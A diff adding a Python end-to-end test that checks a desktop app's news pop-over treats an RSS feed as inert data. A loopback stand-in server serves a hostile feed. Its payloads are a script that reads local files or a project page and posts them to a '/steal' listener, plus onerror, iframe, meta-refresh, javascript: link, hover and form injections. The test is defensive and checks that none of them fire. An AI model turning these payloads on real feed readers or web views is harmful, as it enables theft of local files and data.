@@ -1,0 +1,260 @@
+#!/usr/bin/env python3
+"""The news pop-over shows a feed's text as data. A stand-in hosting service on the loopback
+serves a hostile feed: scripts that read local files or the service's pages and send them on,
+event attributes, frames, images, a refresh, a script that sends the view to a kr://link address,
+links to file: and javascript: addresses, and a base address of file:///etc/ (then, at a second
+start, of the stand-in itself, as a previewed project's server would be). Opening News from the
+toolbar sends nothing anywhere and opens no browser; a click on an http link in the news opens
+exactly that address in the browser, a click on a file: link opens nothing."""
+
+import http.server
+import os
+import sys
+import urllib.parse
+from xml.sax.saxutils import escape
+
+import krdesktop as kd
+
+# The colour a link of a description is drawn in (the engine's default for links).
+LINK_BLUE = (0, 0, 238)
+
+
+def hostile_items(port, base):
+    """The feed's items: (title, description, link). The first item's description ends in a file:
+    link over an http link, each on a line of its own."""
+    steal = f"http://127.0.0.1:{port}/steal"
+    kr_link = "'kr://link?newsItemID=0&url=' + encodeURIComponent('" + steal + "?d=' + encodeURIComponent(data))"
+    script = ("<script>var data = 'none';"
+              "try { var r = new XMLHttpRequest(); r.open('GET', '" + ("hostname" if base.startswith("file:") else "secret")
+              + "', false); r.send(); data = r.responseText; } catch (e) { data = 'error ' + e; }"
+              "try { var s = new XMLHttpRequest(); s.open('POST', '" + steal + "?xhr', false); s.send(data); } catch (e) {}"
+              "try { localStorage.setItem('stolen', data); } catch (e) {}"
+              "location = " + kr_link + ";</script>")
+    first = (script
+             + f"<p>Read this <b>first</b>.</p>"
+             + f"<img src=\"{steal}?img\" onerror=\"location = 'kr://link?newsItemID=0&amp;url=' + encodeURIComponent('{steal}?onerror')\">"
+             + f"<iframe src=\"{steal}?frame\"></iframe>"
+             + f"<meta http-equiv=\"refresh\" content=\"0;url={steal}?refresh\">"
+             + f"<p style=\"background: url({steal}?style)\">Styled</p>"
+             + f"<a href=\"javascript:location='{steal}?javascript'\">Script link</a>"
+             + f"<h1><a href=\"file:///etc/hostname\">Local file</a></h1>"
+             + f"<h1><a href=\"http://127.0.0.1:{port}/clicked?item=1\">Read more</a></h1>")
+    second = (f"<p onmouseover=\"location='{steal}?hover'\">Second item</p>"
+              f"<form action=\"{steal}?form\"><input name=q value=x><button>Go</button></form>")
+    return [("Hostile news", first, "https://news.example.invalid/1"),
+            ("Quiet news", second, "https://news.example.invalid/2")]
+
+
+def rss(port, base):
+    items = "".join(
+        f"<item><title>{escape(title)}</title><description>{escape(description)}</description>"
+        f"<published>Tue Dec 01 10:30:00 +0000 2026</published><link>{escape(link)}</link></item>"
+        for title, description, link in hostile_items(port, base))
+    return ("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>News</title>"
+            f"<link>{escape(base)}</link>{items}</channel></rss>").encode()
+
+
+class StandIn(kd.StandInService):
+    """The hosting service at /api.php (feedURL only), the feed at /feed.xml, a page of a
+    "previewed project" at /secret; every request is kept (method, path and query)."""
+
+    def __init__(self):
+        super().__init__(StandInHandler)
+        self.base = "file:///etc/"
+
+    def stolen(self):
+        """Requests no page of the news should ever make: to the "steal" listener or for the
+        project's page."""
+        with self.lock:
+            return [r for r in self.requests if r["path"] in ("/steal", "/secret", "/clicked")]
+
+    def forget(self):
+        with self.lock:
+            self.requests.clear()
+
+
+class StandInHandler(http.server.BaseHTTPRequestHandler):
+    def answer(self, body, kind):
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+        self.wfile.write(body)
+
+    def handle_any(self):
+        url = urllib.parse.urlsplit(self.path)
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length) if length else b""
+        self.server.record({"verb": self.command, "path": url.path, "query": url.query, "body": body})
+        if url.path == "/api.php":
+            self.answer(b'{"result": "OK", "feedURL": "feed.xml"}', "application/json")
+        elif url.path == "/feed.xml":
+            self.answer(rss(self.server.port, self.server.base), "application/rss+xml")
+        elif url.path == "/secret":
+            self.answer(b"the project's own page", "text/plain")
+        else:
+            self.answer(b"", "text/plain")
+
+    do_GET = handle_any
+    do_POST = handle_any
+
+    def log_message(self, *args):
+        pass
+
+
+def blue(colour):
+    return kd.near(colour, LINK_BLUE, 60)
+
+
+def ink(colour):
+    return blue(colour) or sum(colour) / 3 < 110
+
+
+def ink_lines(desktop, rect):
+    """The lines drawn in rect, top to bottom: (top, bottom, left, right, blue pixels) of each band
+    of rows holding dark or link-blue pixels, in screen coordinates."""
+    image = desktop.grab(rect)
+    lines, current = [], None
+    for row in range(image.y, image.y + image.height):
+        xs = [x for x in range(image.x, image.x + image.width) if ink(image.pixel(x, row))]
+        blues = sum(1 for x in xs if blue(image.pixel(x, row)))
+        if xs:
+            if current is None:
+                current = [row, row, min(xs), max(xs), blues]
+            else:
+                current[1], current[2], current[3] = row, min(current[2], min(xs)), max(current[3], max(xs))
+                current[4] += blues
+        elif current is not None:
+            lines.append(tuple(current))
+            current = None
+    if current is not None:
+        lines.append(tuple(current))
+    # A link's underline, a few rows under its letters, belongs to its line.
+    merged = []
+    for line in lines:
+        if merged and line[0] - merged[-1][1] <= 4:
+            last = merged[-1]
+            merged[-1] = (last[0], line[1], min(last[2], line[2]), max(last[3], line[3]), last[4] + line[4])
+        else:
+            merged.append(line)
+    return merged
+
+
+def nothing_done_unasked(service, record, opened_before):
+    """Fails when the browser was asked to open something or the news sent requests of its own."""
+    kd.check(len(kd.opened(record)) == opened_before,
+             f"the browser was asked to open {kd.opened(record)[opened_before:]} with no click")
+    kd.check(not service.stolen(), f"the news sent requests of its own: {service.stolen()}")
+
+
+def open_news(desktop, window, service, record):
+    """Clicks the toolbar's News button and waits for the news drawn in the pop-over, failing
+    as soon as the feed's text does anything on its own; returns the pop-over's window number,
+    its rectangle and the rectangle of its text."""
+    opened_before = len(kd.opened(record))
+    button = desktop.wait_for(window, "push button", "News", "the toolbar's News button")
+    desktop.activate_if_needed(window)
+    before = set(kd.big_popups(desktop))
+    desktop.click(button)
+    shown = kd.wait_until(lambda: {k: v for k, v in kd.big_popups(desktop, 20).items() if k not in before},
+                          "the news pop-over")
+    number, (x, y, w, h) = next(iter(shown.items()))
+    body = (x + 10, y + 10, w - 20, h - 60)
+    def drawn():
+        nothing_done_unasked(service, record, opened_before)
+        lines = ink_lines(desktop, body)
+        return any(line[4] >= 20 for line in lines) and lines == ink_lines(desktop, body)
+    kd.wait_until(drawn, "the news drawn in the pop-over, with its blue link")
+    desktop.log(f"news pop-over {w}x{h} at {(x, y)}")
+    return number, (x, y, w, h), body
+
+
+def close_news(desktop, number):
+    """Closes the pop-over by a click outside it, on the window's title bar (the page inside
+    keeps the keyboard once clicked)."""
+    desktop.input.glide(400, 8)
+    desktop.input.click(400, 8)
+    kd.wait_until(lambda: number not in desktop.override_windows(), "the news pop-over to close")
+
+
+def first_start(desktop, service, record):
+    """With the feed's base at file:///etc/: nothing is sent or opened when the news shows; a click
+    on the file: link opens nothing, a click on the http link opens exactly it."""
+    desktop.launch()
+    window = kd.project_window(desktop, "Untitled")
+    kd.close_gallery(desktop)
+    kd.wait_until(lambda: service.fetched("/feed.xml"), "the feed fetched from the stand-in")
+    number, rect, body = open_news(desktop, window, service, record)
+    desktop.screenshot("hostile-news")
+    lines = ink_lines(desktop, body)
+    desktop.log(f"lines in the news: {lines}")
+    # The http link is the last line drawn in link blue; the file: link is the line over it.
+    links = [index for index, line in enumerate(lines) if line[4] >= 20]
+    web = lines[links[-1]]
+    kd.check(links[-1] > 0, "no line over the http link")
+    local = lines[links[-1] - 1]
+    desktop.input.glide((local[2] + local[3]) // 2, (local[0] + local[1]) // 2)
+    desktop.input.click((local[2] + local[3]) // 2, (local[0] + local[1]) // 2)
+    desktop.input.glide((web[2] + web[3]) // 2, (web[0] + web[1]) // 2)
+    desktop.input.click((web[2] + web[3]) // 2, (web[0] + web[1]) // 2)
+    # Clicks are taken in turn: once the http link's address is at the browser, anything the
+    # page did on its own or for the file: link would be there before it.
+    clicked = f"http://127.0.0.1:{service.port}/clicked?item=1"
+    kd.wait_until(lambda: clicked in kd.opened(record), "the clicked link opened in the browser")
+    desktop.screenshot("link-clicked")
+    kd.check(kd.opened(record) == [clicked], f"the browser was asked to open {kd.opened(record)}, not only {clicked}")
+    kd.check(not service.stolen(), f"the news sent requests of its own: {service.stolen()}")
+    close_news(desktop, number)
+    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")
+
+
+def second_start(desktop, service, record):
+    """With the feed's base at the stand-in itself (a previewed project's server): the feed's
+    script reads none of its pages and sends nothing; no browser opens."""
+    service.base = f"http://127.0.0.1:{service.port}/"
+    service.forget()
+    desktop.launch()
+    # The gallery comes up at the first start only.
+    window = kd.project_window(desktop, "Untitled")
+    kd.wait_until(lambda: service.fetched("/feed.xml"), "the feed fetched again")
+    before = len(kd.opened(record))
+    number, rect, body = open_news(desktop, window, service, record)
+    desktop.screenshot("hostile-news-served-base")
+    # The mark of the first item: clicking it marks the item read and hides the mark, which
+    # also tells that the page has answered everything asked of it before.
+    x, y, w, h = rect
+    marks = (x, y, 40, h - 60)
+    red = lambda c: kd.near(c, (224, 84, 74), 50)
+    kd.wait_until(lambda: kd.grab_count(desktop, marks, red) >= 10, "the unread marks")
+    image = desktop.grab(marks)
+    points = [(px, py) for py in range(image.y, image.y + image.height)
+              for px in range(image.x, image.x + image.width) if red(image.pixel(px, py))]
+    top = min(p[1] for p in points)
+    first = [p for p in points if p[1] < top + 12]
+    mx = sum(p[0] for p in first) // len(first)
+    my = sum(p[1] for p in first) // len(first)
+    before_marks = kd.grab_count(desktop, marks, red)
+    desktop.input.glide(mx, my)
+    desktop.input.click(mx, my)
+    kd.wait_until(lambda: kd.grab_count(desktop, marks, red) < before_marks - 10, "the clicked mark to go")
+    desktop.screenshot("mark-clicked")
+    kd.check(len(kd.opened(record)) == before, f"the browser was asked to open {kd.opened(record)[before:]}")
+    kd.check(not service.stolen(), f"the news sent requests of its own: {service.stolen()}")
+    close_news(desktop, number)
+    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")
+
+
+def news(desktop):
+    service = StandIn()
+    try:
+        kd.point_at_service(desktop, service.port)
+        record = kd.catch_the_opener(desktop)
+        first_start(desktop, service, record)
+        second_start(desktop, service, record)
+    finally:
+        service.stop()
+
+
+if __name__ == "__main__":
+    sys.exit(kd.run([news]))
